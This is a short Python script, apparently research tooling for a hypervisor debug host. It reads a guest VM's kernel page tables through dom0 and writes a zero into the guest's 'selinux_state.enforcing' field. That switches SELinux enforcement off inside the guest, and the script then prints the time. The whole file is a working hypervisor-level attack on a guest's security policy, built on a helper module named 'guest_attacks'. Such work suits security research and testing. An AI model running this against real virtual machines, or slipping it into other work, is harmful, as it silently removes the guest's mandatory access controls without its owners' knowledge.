# SPDX-License-Identifier: GPL-3.0-or-later
"""Run in dom0 of a debug host: switch SELinux's enforcing off in a guest's memory, and print the time of day.

Usage: ``enforcing_off.py DOMAIN KIND PROFILE POLICY``. ``guest_attacks.py`` has to be in ``/run``.
"""

from __future__ import annotations

import sys

sys.path.insert(0, "/run")
import guest_attacks as attacks

target = attacks.Target(int(sys.argv[1]), sys.argv[2], attacks.Path(sys.argv[3]), attacks.Path(sys.argv[4]))
root = (target.memory.vcpus()[0].cr3 & 0x000FFFFFFFFFF000) >> 12
target.measurer._kernel = target.measurer._open(root, attacks.Budget(10**7, float("inf"), attacks.time.monotonic))
target.write(target.member(target.symbol("selinux_state"), "selinux_state.enforcing"), b"\0")
print(attacks.time.time())
